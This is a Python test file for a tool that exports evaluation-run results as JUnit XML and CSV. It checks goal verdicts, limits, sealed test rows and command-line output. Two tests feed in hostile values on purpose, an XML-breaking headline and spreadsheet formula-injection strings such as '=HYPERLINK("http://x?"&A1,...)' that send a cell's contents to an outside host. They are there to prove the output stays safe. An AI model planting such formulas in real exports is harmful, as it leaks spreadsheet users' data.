"""The run as JUnit XML for build servers and as CSV for spreadsheets."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from xml.etree import ElementTree as ET

import pytest
import typer
from pydantic import TypeAdapter
from typer.testing import CliRunner

from rung.cli.report import report
from rung.report.junit import render_junit
from rung.report.sheet import FIXED, render_csv
from rung.store.sealed import sealed_test
from rung.types import Example, Limits, Outcome, Result, Served, Skipped, Task, Verdict
from tests.unit._run_folder import LADDER, build

app = typer.Typer()
app.command()(report)


@pytest.fixture
def run(tmp_path):
    planned = ("baseline", "prompt", "fewshot", "rag")
    return build(tmp_path / "run", planned=planned, skipped=(Skipped("rag", "no documents <are> configured"),))


def ask(*words):
    return CliRunner().invoke(app, [str(w) for w in words], standalone_mode=False)


def lines(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def cases(folder):
    suites = ET.fromstring(render_junit(folder))
    return suites, {case.get("name"): case for case in suites.iter("testcase")}


def properties(element):
    return {p.get("name"): p.get("value") for p in element.find("properties")}


def test_a_run_that_meets_its_goal_is_green_whatever_other_approaches_did(run):
    suites, found = cases(run)
    assert list(found) == ["meets the goal", "1,000 requests cost at most $1"]
    for element in (suites, suites.find("testsuite")):
        assert [element.get(k) for k in ("tests", "failures", "errors", "skipped")] == ["2", "0", "0", "0"]
    about = properties(suites.find("testsuite"))
    assert (about["decision"], about["winner"], about["goal"]) == ("meets", "fewshot", "0.9")
    assert about["headline"].startswith("No fine-tuning needed: ")
    assert about["approach: rag"] == "skipped: no documents <are> configured"
    bounds = run.load("rungs/prompt/result.json", Result).quality
    assert about["approach: prompt"].startswith("misses the goal: 0.")
    aim = f"bounds {bounds.lower:.3f} to {bounds.upper:.3f}; goal 0.90 on normalized_match, tolerance 0.02; "
    assert aim in about["approach: prompt"]
    of_winner = properties(found["meets the goal"])
    assert (of_winner["approach"], of_winner["candidate"]) == ("fewshot", "label-list")
    assert properties(found["meets the goal"])["failed examples"]


def concluded(folder, **changes):
    folder.save("verdict.json", replace(folder.load("verdict.json", Verdict), **changes), Verdict)


@pytest.mark.parametrize(
    ("changes", "tag", "kind"),
    [
        ({"decision": "misses", "winner": None}, "failure", "misses"),
        ({"decision": "inconclusive", "winner": None}, "error", "inconclusive"),
        ({"decision": "stopped", "winner": None}, "error", "stopped"),
        ({"provisional": "a judge alone says so"}, "error", "provisional"),
    ],
)
def test_the_goal_fails_where_it_is_missed_and_is_an_error_where_nobody_can_tell(run, changes, tag, kind):
    concluded(run, headline="What came of it.", **changes)
    suites, found = cases(run)
    [red] = [child for child in found["meets the goal"] if child.tag in ("failure", "error")]
    assert (red.tag, red.get("type"), red.get("message")) == (tag, kind, "What came of it.")
    assert "prompt: misses the goal: 0." in red.text
    assert (suites.get("failures"), suites.get("errors")) == (("1", "0") if tag == "failure" else ("0", "1"))


LIMITED = ["meets the goal", "1,000 requests cost at most $2", "95 of 100 requests take at most 1 s"]


@pytest.mark.parametrize(
    ("cost", "status", "expected"),
    [
        (1.5, "meets", [None, None, None]),
        (2.5, "meets", [None, ("failure", "over_limit"), None]),
        (None, "misses", [None, ("error", "unknown"), ("failure", "over_limit")]),
        (1.5, "inconclusive", [None, None, ("error", "unknown")]),
        (1.5, None, [None, None, ("error", "unknown")]),
    ],
)
def test_each_limit_is_a_test_case(run, cost, status, expected):
    run.note(task=TypeAdapter(Task).dump_python(replace(run.task, limits=Limits(None, 2.0, 1.0)), mode="json"))
    served = None if status is None else Served(1, 99, 0.5, 0.9, 0.8, 1.2, status)
    result = run.load("rungs/fewshot/result.json", Result)
    held = {(None, None, None): True}.get(tuple(expected), False)
    run.save(
        "rungs/fewshot/result.json", replace(result, cost_per_1k_usd=cost, served=served, limits_held=held), Result
    )
    if not held:
        concluded(run, decision="misses", winner=None)
    found = cases(run)[1]
    assert list(found) == LIMITED
    red = [
        next(((c.tag, c.get("type")) for c in case if c.tag in ("failure", "error")), None) for case in found.values()
    ]
    assert red == expected


def test_a_rung_that_meets_no_goal_and_no_limit_leaves_both_red(run):
    run.note(task=TypeAdapter(Task).dump_python(replace(run.task, limits=Limits(None, 0.000001)), mode="json"))
    result = run.load("rungs/fewshot/result.json", Result)
    missed = replace(result.quality, status="misses")
    run.save("rungs/fewshot/result.json", replace(result, quality=missed, limits_held=False), Result)
    concluded(run, decision="misses", winner=None)
    assert [case.find("failure") is not None for case in cases(run)[1].values()] == [True, True]


def test_a_run_without_a_verdict_and_hostile_texts_stay_valid_xml(run):
    verdict = run.load("verdict.json", Verdict)
    run.save("verdict.json", replace(verdict, headline='x ]]> <b>"\x1b[1m\u202e\x00\ufffe&amp;'), Verdict)
    headline = properties(cases(run)[0].find("testsuite"))["headline"]
    assert headline == 'x ]]> <b>"⟦U+001B⟧[1m⟦U+202E⟧⟦U+0000⟧⟦U+FFFE⟧&amp;'
    (run.path / "verdict.json").unlink()
    about = properties(cases(run)[0].find("testsuite"))
    assert about["decision"] == "no verdict yet (status: done)"
    assert "headline" not in about
    error = cases(run)[1]["meets the goal"].find("error")
    assert (error.get("type"), error.get("message")) == ("unfinished", "no verdict yet (status: done)")


def test_dev_rows_are_there_for_each_rung_and_test_rows_only_when_revealed(run):
    rows = lines(render_csv(run))
    assert tuple(rows[0]) == (*FIXED, "score: normalized_match", "answer", "target", "input: subject", "input: body")
    assert {r["part"] for r in rows} == {"dev"}
    assert len(rows) == 3 * 80
    assert [r["rung"] for r in rows[::80]] == ["baseline", "prompt", "fewshot"]
    before = run.times_opened
    sealed_test(run).reveal()
    rows = lines(render_csv(run))
    assert [r["part"] for r in rows].count("test") == 3 * 200
    assert run.times_opened > before


def test_values_are_those_of_the_run_and_unknown_is_empty(tmp_path):
    folder = build(tmp_path, [replace(LADDER[1], usd=None, timeouts=0.5)], sizes=(40, 30, 40))
    rows = {r["row"]: r for r in lines(render_csv(folder))}
    outcomes = folder.load_rows("rungs/prompt/dev.jsonl", Outcome)
    assert {o.failure is None for o in outcomes} == {True, False}
    for outcome in outcomes:
        row = rows[outcome.example_id]
        assert row["usd"] == ""
        if outcome.failure is not None:
            assert (row["result"], row["message"]) == ("timeout", "no answer in 60 s after 5 attempts")
            assert (row["score: normalized_match"], row["answer"], row["seconds"]) == ("", "", "")
        else:
            assert (row["result"], row["answer"]) == ("scored", outcome.answer.text)
            assert float(row["score: normalized_match"]) == outcome.scores["normalized_match"].value
            assert float(row["seconds"]) == pytest.approx(outcome.answer.seconds)
            assert row["right_form"] == str(outcome.scores["normalized_match"].adheres).lower()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "  =", "＝"])
def test_no_cell_is_a_formula(tmp_path, start):
    bad = f'{start}HYPERLINK("http://x?"&A1,"a, b")'
    dev = (Example(bad, {"subject": bad, "body": "half and \x00"}, bad, "g"),)
    folder = build(tmp_path, [LADDER[1]], sizes=(40, 1, 40), dev=dev)
    (row,) = lines(render_csv(folder))
    assert row["row"] == row["target"] == row["input: subject"] == f"'{bad}"
    assert row["input: body"] == "half and \ufffd"


def test_the_xml_is_right_whatever_encoding_it_is_redirected_in(run):
    assert render_junit(run).isascii()
    assert "(95 % CI 0.92 to 0.98, n=200)" in properties(cases(run)[1]["meets the goal"])["quality"]


def test_the_verb_prints_both_or_writes_them_to_a_file(run, tmp_path):
    assert ask(run.path, "--format", "junit").output == render_junit(run)
    assert ask(run.path, "--format", "csv").stdout_bytes.decode() == render_csv(run)
    for form in ("junit", "csv"):
        file = tmp_path / f"out.{form}"
        found = ask(run.path, "--format", form, "--output", file)
        assert (found.return_value, found.output) == (0, f"Report: {file}\n")
        assert "fewshot" in file.read_text("utf-8")
